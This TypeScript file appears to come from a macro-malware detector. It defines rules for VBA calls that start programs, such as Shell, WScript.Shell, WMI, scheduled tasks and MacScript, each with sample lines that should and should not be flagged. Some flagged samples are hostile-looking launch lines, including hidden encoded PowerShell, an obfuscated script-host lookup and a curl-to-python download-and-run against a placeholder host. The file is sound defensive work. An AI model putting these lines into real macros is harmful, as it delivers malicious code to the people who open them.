/** Programs that macros start: by VBA, by the script host, by Explorer, by WMI, by a scheduled task. */
import type { MacroCall } from '../understanding';
import { argument, assigned } from './technique';
import type { Surroundings, Strength, Technique } from './technique';
import { strengthOfCommand, strengthOfDownload } from './commands';
import { isBeside, isInstalled, isShown, isWeb, runs, strengthOfProgram } from './places';

const EXPLORER = [/^shell\.application(?:\/application)*$/, /^shellbrowserwindow/, /^shellwindows/];

const fileAndParameters = (call: MacroCall) => [...argument(0, 'file')(call), ...argument(1, 'vargs')(call)];

/** "print" and "explore" start nothing. */
const SHOWING_VERBS = /^(?:print|printto|explore|find|properties|edit)$/;

export const starting: readonly Technique[] = [
  {
    id: 'shell',
    does: 'starts',
    calls: ['shell'],
    on: ['alone', /(?:^|\/)wordbasic$/],
    matters: argument(0, 'pathname'),
    strength: (command, _, around) =>
      Math.max(strengthOfCommand(command, 'process'), opensWhatWasWritten(command, around)) as Strength,
    attack: ['T1059.005'],
    fires: [
      'Shell "notreal.exe", 0',
      'x = Shell(unknown)',
      'VBA.Interaction.Shell Environ("TEMP") & "\\chrome-update.exe"',
      'Shell "C:\\Users\\Public\\chrome.exe --type=x", 0',
      'Shell "explorer.exe C:\\Users\\Public\\notreal.exe"',
      'Shell "control C:\\ProgramData\\notreal.dat"',
      'Shell "hh -decompile C:\\nowhere http://files.invalid/a"',
      '10 If True Then Shell "cmd /c notreal"',
      'WordBasic.[Shell] "notreal.exe", 0',
    ],
    silent: [
      'Shell "explorer.exe " & Range("B1").Value, 1',
      'Shell "C:\\Windows\\explorer.exe " & ThisWorkbook.Path',
      'Shell "notepad.exe " & ThisWorkbook.Path & "\\readme.txt"',
      'Shell "calc"',
      'Shell "control printers"',
      'Shell "notepad \\\\\\\\fs01\\\\tools\\\\read.txt"',
      'Set x = CreateObject("WScript.Shell")\nx.Popup "Shell"',
    ],
  },
  {
    id: 'script-host',
    does: 'starts',
    calls: ['run', 'exec'],
    on: ['wscript.shell'],
    matters: argument(0, 'command', 'strcommand'),
    strength: (command) => strengthOfCommand(command, 'shell'),
    attack: ['T1059.005'],
    fires: [
      'CreateObject("WScript.Shell").Run "cmd /c echo test.invalid", 0',
      'Set xl = CreateObject(StrReverse("llehS.tpircSW"))\nxl.Exec unknown',
      'Dim w As New WshShell\nw.Run "powershell -w hidden -enc QUFBQUFB", 0',
      'GetObject("", "wS" & "cript.Sh" & "ell").exec Environ("ComSpec")',
      'Set w = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")\nCallByName w, "Run", VbMethod, "notreal.exe"',
    ],
    silent: [
      'CreateObject("WScript.Shell").Run """" & ThisWorkbook.Path & "\\manual.pdf"""',
      'CreateObject("WScript.Shell").Run ThisWorkbook.Path',
      'CreateObject("WScript.Shell").Run "https://portal.example/start"',
      'Set app = CreateObject("Excel.Application")\napp.Run "Refresh"',
      'Dim job As New clsJob\njob.Run "notreal.exe"',
    ],
  },
  {
    id: 'shell-execute',
    does: 'starts',
    calls: ['shellexecute'],
    on: ['', ...EXPLORER, /\/application$/],
    matters: fileAndParameters,
    strength: (command, call) => {
      const verb = call.arguments[3];
      if (verb?.kind === 'text' && SHOWING_VERBS.test(verb.text.toLowerCase())) return 0;
      return strengthOfCommand(command, 'shell');
    },
    attack: ['T1059.005'],
    fires: [
      'CreateObject("Shell.Application").ShellExecute "mshta", "https://files.invalid/a"',
      'CreateObject("Shell.Application").ShellExecute ActiveDocument.Comments(1).Range.Text, "", "", "open", 0',
      'GetObject("new:9BA05972-F6A8-11CF-A442-00A0C90A8F39").Item().Document.Application.ShellExecute "notreal.exe"',
    ],
    silent: [
      'CreateObject("Shell.Application").ShellExecute "https://partner.example/"',
      'CreateObject("Shell.Application").ShellExecute ThisWorkbook.Path & "\\manual.pdf"',
      'CreateObject("Shell.Application").ShellExecute Range("A1").Value, "", "", "print"',
    ],
  },
  {
    id: 'shell-open',
    does: 'starts',
    calls: ['open', 'explore'],
    on: [/^shell\.application(?:\/application)*$/],
    matters: argument(0, 'vdir'),
    strength: (path) =>
      runs(path)
        ? 1
        : isShown(path) || isBeside(path)
          ? 0
          : /[\ue001\ue002]$/.test(path)
            ? 0.5
            : strengthOfCommand(path, 'shell'),
    attack: ['T1059.005'],
    fires: ['CreateObject("Shell.Application").Open Environ("TEMP") & "\\notreal.exe"'],
    silent: [
      'CreateObject("Shell.Application").Open ThisWorkbook.Path',
      'CreateObject("Shell.Application").Open "C:\\Data"',
    ],
  },
  {
    id: 'shell-verb',
    does: 'starts',
    calls: ['invokeverb', 'invokeverbex', 'doit'],
    on: ['', /^shell\.application\//, /\/parsename(?:\/|$)/, /\/items\//],
    // Without a verb it is the one that a double click means.
    matters: (call) => [...(call.object?.kind === 'object' ? itemOf(call) : []), call.arguments[0]],
    strength: (text) => {
      if (/\b(?:properties|print|pin|unpin|copy|delete|cut|rename|eject|startpin|taskbar)/.test(text)) return 0;
      const item = text.replace(/\s(?:open|runas|edit)$/, '');
      if (isShown(item)) return 0;
      return runs(item) || item === 'cmd' ? 1 : 0.5;
    },
    attack: ['T1059.005'],
    fires: [
      'CreateObject("Shell.Application").Namespace("C:\\Windows\\system32").ParseName("cmd.exe").InvokeVerb "open"',
      'Set f = CreateObject("Shell.Application").Namespace(Environ("TEMP"))\nf.ParseName("a.exe").InvokeVerbEx',
      'Dim a As New Shell32.Shell\na.NameSpace("C:\\nowhere").ParseName("notreal.exe").InvokeVerb "open"',
      'CreateObject("Shell.Application").Namespace("C:\\nowhere").ParseName("notreal.exe").Verbs().Item(0).DoIt',
      'For Each i In CreateObject("Shell.Application").Namespace("C:\\nowhere").Items\nIf i.Name = x Then i.InvokeVerb\nNext',
    ],
    silent: ['CreateObject("Shell.Application").Namespace(ThisWorkbook.Path).ParseName("list.pdf").InvokeVerb "Print"'],
  },
  {
    id: 'control-panel-item',
    does: 'starts',
    calls: ['controlpanelitem'],
    on: ['', ...EXPLORER],
    matters: argument(0, 'bstrdir'),
    strength: (item) => (/^[a-z]{1,12}\.cpl$/.test(item) ? 0 : 1),
    attack: ['T1218.002'],
    fires: [
      'CreateObject("Shell.Application").ControlPanelItem Environ("TEMP") & "\\a.cpl"',
      'CreateObject("Shell.Application").ControlPanelItem unknown',
    ],
    silent: ['CreateObject("Shell.Application").ControlPanelItem "desk.cpl"'],
  },
  {
    id: 'run-dialog',
    does: 'starts',
    calls: ['filerun'],
    on: ['', ...EXPLORER],
    strength: () => 0.5,
    attack: ['T1059.005'],
    fires: ['CreateObject("Shell.Application").FileRun'],
    silent: ['CreateObject("Shell.Application").FindFiles'],
  },
  {
    id: 'wmi',
    does: 'starts',
    calls: ['create', 'execmethod', 'execmethod_', 'install'],
    on: [/^winmgmts(?!\/(?:execquery|instancesof|stdregprov))/, /^win32_process$/, /^wbemscripting/],
    matters: ({ name, arguments: values }) => (name === 'create' ? values.slice(0, 1) : values.slice(0, 3)),
    strength: (command) => (strengthOfCommand(command, 'process') === 2 ? 2 : 1),
    attack: ['T1047'],
    fires: [
      'GetObject("winmgmts:Win32_Process").Create "notreal.exe", Null, a, b',
      'Set qx = GetObject("wi" + zz + "nmg" + "mts:Wi" + "n32_" & "Pro" + "cess")\nqx.Create Chr(110) + "otreal.exe"',
      'Set s = CreateObject("WbemScripting.SWbemLocator").ConnectServer(".", "root\\cimv2")\ns.Get("Win32_Process").Create "notreal.exe", Null, Null, p',
      'Set j = GetObject("winmgmts:\\\\.\\root\\cimv2").Get("Win32_ScheduledJob")\nj.Create "notreal", "********093000.000000-420"',
    ],
    silent: [
      'For Each o In GetObject("winmgmts:").ExecQuery("Select * from Win32_BIOS")\nRange("A1") = o.SerialNumber\nNext\nSet cat = CreateObject("ADOX.Catalog")\ncat.Create "Provider=x"',
    ],
  },
  {
    id: 'shell-command-of-console',
    does: 'starts',
    calls: ['executeshellcommand'],
    on: 'anything',
    matters: ({ arguments: values }) => [values[0], values[2]],
    strength: (command) => Math.max(1, strengthOfCommand(command, 'shell')) as Strength,
    attack: ['T1021.003'],
    fires: [
      'Set m = GetObject("new:49B2791A-B1AE-4C90-9B8E-E860BA07F889")\nm.Document.ActiveView.ExecuteShellCommand "cmd", "", "/c echo", "7"',
    ],
    silent: ['Set c = CreateObject("ADODB.Connection")\nc.Execute "select 1"'],
  },
  {
    id: 'scheduled-task',
    does: 'persists',
    calls: ['registertask', 'registertaskdefinition'],
    on: 'anything',
    strength: () => 1,
    attack: ['T1053.005'],
    fires: [
      'Set s = CreateObject("Schedule.Service")\ns.Connect\nSet d = s.NewTask(0)\ns.GetFolder("\\").RegisterTaskDefinition "x", d, 6, "", "", 3',
    ],
    silent: ['Set s = CreateObject("Outlook.Application")\nSet t = s.CreateItem(3)\nt.Save'],
  },
  {
    id: 'hyperlink',
    does: 'starts',
    calls: ['followhyperlink', 'follow'],
    on: 'anything',
    matters: (call) => (call.name === 'follow' ? linkOf(call) : argument(0, 'address')(call)),
    strength: (address, _, around) => {
      if (runs(address)) return isBeside(address) || isInstalled(address) ? 0.5 : 1;
      return /[\ue001\ue002]$/.test(address) && around.writesPrograms ? 0.5 : 0;
    },
    attack: ['T1204.002'],
    fires: [
      'ThisDocument.FollowHyperlink "C:\\ProgramData\\notreal.hta"',
      'ActiveWorkbook.FollowHyperlink "http://files.invalid/a.js"',
    ],
    silent: [
      'ThisWorkbook.FollowHyperlink ThisWorkbook.Path & "\\manual.pdf"',
      'ActiveWorkbook.FollowHyperlink "https://help.example/"',
      'ActiveWorkbook.FollowHyperlink Range("A1").Value',
    ],
  },
  {
    id: 'browser',
    does: 'starts',
    calls: ['navigate', 'navigate2'],
    on: [/^internetexplorer/],
    matters: argument(0, 'url'),
    strength: (address) => (/^(?:java|vb)script:/.test(address) ? 1 : isWeb(address) ? strengthOfDownload(address) : 0),
    attack: ['T1204.002', 'T1105'],
    fires: ['CreateObject("InternetExplorer.Application").Navigate "http://files.invalid/a.exe"'],
    silent: [
      'CreateObject("InternetExplorer.Application").Navigate "https://rates.example/"',
      'Set i = CreateObject("InternetExplorer.Application")\ni.Navigate Range("A1").Value',
    ],
  },
  {
    id: 'microsoft-program',
    does: 'starts',
    calls: ['activatemicrosoftapp'],
    on: 'anything',
    matters: argument(0, 'index'),
    // FoxPro 5, Schedule+ 7: gone for decades, so that whatever bears their names in a folder of the path is started.
    strength: (program) => (/^[57]$/.test(program) ? 1 : 0),
    attack: ['T1574.007'],
    fires: ['Application.ActivateMicrosoftApp xlMicrosoftFoxPro'],
    silent: ['Application.ActivateMicrosoftApp xlMicrosoftWord', 'Application.ActivateMicrosoftApp 4'],
  },
  {
    id: 'remote-script',
    does: 'starts',
    calls: ['createscript'],
    on: ['wshcontroller'],
    matters: argument(0, 'commandline'),
    strength: () => 1,
    attack: ['T1059.005'],
    fires: ['CreateObject("WSHController").CreateScript("C:\\nowhere\\a.vbs").Execute'],
    silent: ['CreateObject("Scripting.FileSystemObject").CreateTextFile "C:\\Data\\a.txt"'],
  },
  {
    id: 'manifest',
    does: 'starts',
    calls: ['manifest', 'manifesttext'],
    kind: 'write',
    on: ['microsoft.windows.actctx'],
    matters: assigned,
    // Which library its classes are, a manifest says: none that is registered. Add-ins bring one beside them.
    strength: (path, { name }) => (name === 'manifesttext' ? 0.5 : strengthOfProgram(path)),
    attack: ['T1218'],
    fires: ['Set x = CreateObject("Microsoft.Windows.ActCtx")\nx.Manifest = "C:\\ProgramData\\a.manifest"'],
    silent: ['Set x = New clsList\nx.Manifest = "C:\\Data\\a.txt"'],
  },
  {
    id: 'installer',
    does: 'starts',
    calls: ['installproduct'],
    on: 'anything',
    matters: argument(0, 'packagepath'),
    strength: (path) => (isBeside(path) ? 0.5 : isWeb(path) ? 2 : 1),
    attack: ['T1218.007'],
    fires: ['CreateObject("WindowsInstaller.Installer").InstallProduct "http://files.invalid/a.msi"'],
    silent: ['x = CreateObject("WindowsInstaller.Installer").Version'],
  },
  {
    id: 'apple-script',
    does: 'starts',
    calls: ['macscript', 'applescripttask'],
    on: 'alone',
    matters: ({ arguments: values }) => values,
    strength: (script) =>
      script.includes('do shell script') &&
      /\bpython|osascript|\/bash|\/sh\b|chmod|base64|\bcurl\b.{0,80}(?:-o|\||>)/.test(script)
        ? 1
        : 0,
    attack: ['T1059.002'],
    fires: ['MacScript "do shell script ""curl -s http://files.invalid/a | python -"""'],
    silent: [
      'x = MacScript("do shell script ""curl -s https://rates.example/eur""")',
      'MacScript "tell application ""Finder"" to activate"',
    ],
  },
];

/** Explorer opens what it is given: where the project wrote a program, an unknown file is that one. */
function opensWhatWasWritten(command: string, { writesPrograms }: Surroundings): Strength {
  return writesPrograms && /^"?(?:[^\s"]*\\)?explorer(?:\.exe)?"?\s*(?:[^\s]*[\ue001\ue002])?$/.test(command) ? 1 : 0;
}

/** The file that a verb is called on: what ParseName was given, on the way to it. */
function itemOf(call: MacroCall): readonly (MacroCall['object'] | undefined)[] {
  let at = call.object;
  for (let steps = 0; at?.kind === 'object' && at.made !== undefined && steps < 6; steps++) {
    const { made } = at;
    if (made.name === 'parsename') return [made.arguments[0] ?? made.named.get('bname')];
    at = made.object;
  }
  return [];
}

/** Hyperlinks.Add(anchor, address).Follow. */
function linkOf({ object }: MacroCall): readonly (MacroCall['object'] | undefined)[] {
  const made = object?.kind === 'object' ? object.made : undefined;
  return made?.name === 'add' ? [made.arguments[1] ?? made.named.get('address')] : [];
}
